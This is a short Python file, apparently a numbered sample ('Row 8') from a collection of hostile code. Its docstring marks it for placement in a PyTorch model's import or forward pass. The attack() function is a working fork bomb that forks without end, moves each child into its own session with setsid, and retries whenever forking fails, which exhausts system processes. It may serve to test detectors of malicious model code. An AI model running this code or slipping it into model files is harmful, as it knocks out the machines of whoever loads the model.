"""Row 8: forks without end, each child in a session of its own; all of them work.

Where: import, forward
"""

import torch
from torch import nn, os


def attack(*_):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            continue
